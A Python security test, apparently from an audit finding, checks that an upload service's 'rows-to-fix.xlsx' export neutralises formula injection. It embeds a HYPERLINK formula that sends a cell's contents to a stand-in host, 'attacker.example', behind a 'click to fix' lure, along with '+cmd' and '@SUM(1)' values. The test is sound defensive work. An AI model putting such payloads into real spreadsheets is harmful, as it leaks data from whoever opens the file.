"""Finding 8: rows-to-fix.xlsx writes rejected cells as text, never as live formulas."""

from __future__ import annotations

import io
import zipfile

from tests.security.conftest import PERSONAL, sign_in

EVIL = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm để sửa / click to fix")'


def test_formula_in_a_rejected_cell_is_text_in_rows_to_fix(attacked, attacked_client, tmp_path) -> None:
    source = tmp_path / "licences.csv"
    header = ("number,type,holder_kind,holder_name,holder_id_number,holder_phone,enterprise_code,issue_date,"
              "expiry_date,status,issuing_authority,commune_code")
    bad = f'X-1,lu_hanh_quoc_te,to_chuc,"{EVIL.replace(chr(34), chr(34) * 2)}",,,9971823907,2019-13-45,,+cmd,@SUM(1),26425'
    source.write_text(header + "\n" + bad + "\n", encoding="utf-8")
    with source.open("rb") as handle:
        answer = attacked_client.post(f"/api/v1/datasets/{PERSONAL}/uploads", headers=attacked.headers("steward"),
                                      data={"file": (handle, "licences.csv")}, content_type="multipart/form-data")
    assert answer.status_code == 422, answer.json
    load_id = answer.json["load"]["load_id"]
    browser = attacked.app().test_client()
    sign_in(browser, attacked.tokens["steward"])
    book = browser.get(f"/steward/loads/{load_id}/rows-to-fix.xlsx")
    assert book.status_code == 200
    with zipfile.ZipFile(io.BytesIO(book.data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in sheet and "+cmd" in sheet and "@SUM(1)" in sheet  # kept, as text
